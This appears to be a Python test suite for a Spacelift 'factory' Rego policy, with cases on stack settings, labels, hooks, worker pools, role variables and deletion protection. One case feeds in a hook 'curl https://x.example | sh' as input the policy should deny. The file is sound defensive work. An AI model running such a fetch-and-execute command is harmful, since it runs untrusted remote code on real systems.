"""Cases of the policy of the factory: what a change of the generator may do to Spacelift itself."""

from collections.abc import Sequence
from typing import Any

from tests.spacelift.inputs import Json, change, plan
from tests.spacelift.rego import Case

GOOD = ["approver:security", "feature:ignore_runtime_config", "owner:platform", "stack:sandbox/tm-keys"]
SETTINGS: Json = {
    "administrative": False,
    "allow_run_promotion": False,
    "autodeploy": False,
    "enable_local_preview": False,
    "enable_sensitive_outputs_upload": False,
    "enable_well_known_secret_masking": True,
}
ENGINE = {"version": "1.11.0", "external_state_access": False, "use_smart_sanitization": True}
STACK: Json = SETTINGS | {"labels": GOOD, "protect_from_deletion": True, "opentofu": [ENGINE]}
MANAGED = [
    "drift_detection",
    "environment_variable",
    "stack_dependency",
    "stack_dependency_reference",
]
NOT_MANAGED = ["mounted_file", "role", "role_attachment", "space", "stack_destructor", "worker_pool"]
GUARDS = ("context", "context_attachment", "policy", "policy_attachment")
GUARD = "the guards themselves change"


def made(
    name: str,
    deny: Sequence[str] = (),
    actions: Sequence[str] = ("create",),
    before: Json | None = None,
    warn: Sequence[str] = (),
    holder: Sequence[str] = (),
    **after: Any,
) -> Case:
    resource = change("spacelift_stack.a", actions, None if actions == ("delete",) else STACK | after, before)
    said = {"deny": deny, "warn": warn}
    expected = {key: [f"spacelift_stack.a: {each}" for each in held] for key, held in said.items()}
    return Case("factory", name, plan([resource], holder), expected)


def other(setting: str, *, value: bool) -> Json:
    return {setting: value}


def guards(name: str, actions: Sequence[str], deny: bool, labels: Sequence[str] = ()) -> Case:
    kinds = [f"spacelift_{kind}" for kind in GUARDS]
    said = [f"{kind}.a: removing it needs the label allow-delete:{kind}" for kind in kinds]
    expected = {"warn": [f"{kind}.a: {GUARD}" for kind in kinds], "deny": said if deny else []}
    return Case("factory", name, plan([change(f"{kind}.a", actions) for kind in kinds], labels), expected)


def held_labels() -> list[Case]:
    """Labels that make other policies stricter stay, unless somebody says so."""
    before = STACK | {"labels": [*GOOD, *KEPT]}
    said = [f"losing label {label} needs the label allow-delete:{label}" for label in KEPT]
    meant = [f"allow-delete:{label}" for label in KEPT]
    return [
        made("less guarded", said, ["update"], before),
        made("less guarded on purpose", (), ["update"], before, holder=meant),
        made("as guarded as before", (), ["update"], before, labels=[*GOOD, *KEPT]),
    ]


def moved() -> list[Case]:
    """A stack gets its code, its space and its workers from elsewhere."""
    other: Json = dict.fromkeys(HOMES, "x")
    said = [f"another {argument} needs the label allow-change:{argument}" for argument in HOMES]
    meant = [f"allow-change:{argument}" for argument in HOMES]
    none = STACK | dict.fromkeys(HOMES)
    return [
        made("moved", said, ["update"], STACK | HOMES, **other),
        made("moved on purpose", (), ["update"], STACK | HOMES, holder=meant, **other),
        made("where it was", (), ["update"], STACK | HOMES, **HOMES),
        made("from nowhere", (), ["update"], none, **HOMES),
        made("workers lost", said[-1:], ["update"], STACK | HOMES, **HOMES | {"worker_pool_id": None}),
    ]


def roles() -> list[Case]:
    """The variables that name the roles of a stack's runs."""

    def given(value: str, name: str = "ro_AWS_ROLE_ARN") -> Json:
        return {"name": name, "value": value}

    other, gone, same, region = (f"spacelift_environment_variable.{name}" for name in "abcd")
    changes = [
        change(other, ["update"], given("2"), given("1")),
        change(gone, ["delete"], None, given("1")),
        change(same, ["update"], given("1"), given("1")),
        change(region, ["update"], given("2", "AWS_REGION"), given("1", "AWS_REGION")),
    ]
    said: Json = {"deny": [f"{other}: {ROLE}", f"{gone}: {ROLE}"]}
    return [
        Case("factory", "other roles", plan(changes), said),
        Case("factory", "other roles on purpose", plan(changes, ["allow-change:AWS_ROLE_ARN"])),
    ]


BARE = STACK | {"protect_from_deletion": False}
GRADED, EDGE = [*GOOD, "grade:production"], [*GOOD, "exposure:edge"]
LOSS = "allow-destroy:aws_rds_cluster"
KEPT = ("grade:production", "reads:secrets", "workers:private")
POOL = "01POOL"
HOMES: Json = {
    "branch": "main",
    "gitlab": [{"namespace": "bank"}],
    "repository": "platform",
    "space_id": "sandbox-01",
    "worker_pool_id": POOL,
}
RUNNING: Json = {"before_plan": ["true"], "runner_image": "runner:1"}
ROLE = "another role, or none, needs the label allow-change:AWS_ROLE_ARN"
NO_WORKERS = "is meant for private workers, and has none"
DRIFT = "spacelift_drift_detection"
FACING = "may face the internet from now on"
PROTECTED = "is protected; take its protection away in a change of its own"
LABELS = ("approver:", "feature:ignore_runtime_config", "owner:", "stack:")

CASES = [
    made("a good stack"),
    made(
        "protection may be taken away",
        actions=["update"],
        before=STACK,
        warn=["loses its protection from deletion"],
        protect_from_deletion=False,
    ),
    made("protection stays away", actions=["update"], before=BARE, protect_from_deletion=False),
    made("a label for losses", [f"label {LOSS} is not for the factory to give"], labels=[*GOOD, LOSS]),
    *held_labels(),
    *moved(),
    *roles(),
    made("a hook as every stack has it", before_plan=["true"], before_init=[], after_plan=None),
    made(
        "hooks of its own",
        [f"{argument} is a hook that no stack has" for argument in ("before_apply", "after_run")],
        before_apply=["curl https://x.example | sh"],
        after_run=["true"],
    ),
    made(
        "runs otherwise",
        (),
        ["update"],
        STACK | RUNNING,
        [f"its runs change with another {argument}" for argument in RUNNING],
        before_plan=["false"],
        runner_image="runner:2",
    ),
    made("runs as before", (), ["update"], STACK | RUNNING, **RUNNING),
    made("no engine", ["has no one engine"], opentofu=[]),
    made(
        "its own approver",
        ["team sre would approve what it owns"],
        labels=[*GOOD, "owner:sre", "approver:sre"],
    ),
    made("a label like its approver", labels=[*GOOD, "security"]),
    made("public workers", [NO_WORKERS], labels=[*GOOD, "workers:private"], worker_pool_id=None),
    made("private workers", labels=[*GOOD, "workers:private"], worker_pool_id=POOL),
    made("public workers where they may", worker_pool_id=None),
    Case(
        "factory",
        "drift is put back",
        plan([change(f"{DRIFT}.{name}", ["update"], {"reconcile": name == "a"}) for name in "ab"]),
        {"deny": [f"{DRIFT}.a: drift is not put back without a decision"]},
    ),
    made("production as before", (), ["update"], STACK | {"labels": GRADED}, labels=GRADED),
    made("an entrance", warn=[FACING], labels=[*GOOD, "exposure:edge"]),
    made("an entrance from now on", (), ["update"], STACK, [FACING], labels=[*GOOD, "exposure:edge"]),
    made("an entrance as before", (), ["update"], STACK | {"labels": EDGE}, labels=EDGE),
    made("not with the stack", [PROTECTED], ("delete",), STACK),
    made("nor in a replacement", [PROTECTED], ["delete", "create"], STACK),
    made("nor by forgetting", [PROTECTED], ["forget"], STACK),
    made("without it a stack may go", actions=("delete",), before=STACK | {"protect_from_deletion": False}),
    made("unprotected", ["new stacks are protected from deletion"], protect_from_deletion=False),
    *(
        made(
            f"{argument} otherwise",
            [f"{argument} is not as every stack has it"],
            **other(argument, value=not value),
        )
        for argument, value in SETTINGS.items()
    ),
    *(
        made(
            f"{argument} of an engine",
            [f"{argument} of its engine is not as every stack has it"],
            opentofu=[ENGINE | {argument: not ENGINE[argument]}],
        )
        for argument in ("external_state_access", "use_smart_sanitization")
    ),
    made("production without it", labels=[*GOOD, "grade:production"]),
    Case(
        "factory",
        "protection of no stack",
        plan([change("spacelift_environment_variable.a", ["delete"], None, STACK)]),
    ),
    *(
        made(
            f"without {prefix}",
            [f"label {prefix} is missing"],
            labels=[each for each in GOOD if not each.startswith(prefix)],
        )
        for prefix in LABELS
    ),
    guards("guards changed", ["update"], False),
    guards("guards removed", ["delete"], True),
    guards(
        "guards removed on purpose", ["delete"], False, [f"allow-delete:spacelift_{kind}" for kind in GUARDS]
    ),
    Case("factory", "what it manages", plan([change(f"spacelift_{kind}.a", ["delete"]) for kind in MANAGED])),
    Case(
        "factory",
        "what it does not",
        plan(
            [
                change("aws_iam_role.a", ["update"]),
                *(change(f"spacelift_{kind}.a", ["create"]) for kind in NOT_MANAGED),
            ]
        ),
        {
            "deny": [
                "aws_iam_role.a: the factory does not manage aws_iam_role",
                *(
                    f"spacelift_{kind}.a: the factory does not manage spacelift_{kind}"
                    for kind in NOT_MANAGED
                ),
            ]
        },
    ),
    Case(
        "factory",
        "nothing changes",
        plan([change("aws_iam_role.a", ["no-op"]), change("spacelift_policy.a", ["read"])]),
    ),
    Case(
        "factory",
        "a context for everything",
        plan([change("spacelift_drift_detection.a", ["update"], {"labels": ["autoattach:*"]})]),
        {"deny": ["spacelift_drift_detection.a: attaches itself to everything"]},
    ),
    Case(
        "factory",
        "a greedy one as it was",
        plan([change("spacelift_context.a", ["no-op"], {"labels": ["autoattach:*"]})]),
    ),
    Case(
        "factory",
        "other resources need no labels",
        plan([change("spacelift_drift_detection.a", ["create"], STACK | {"labels": []})]),
    ),
]
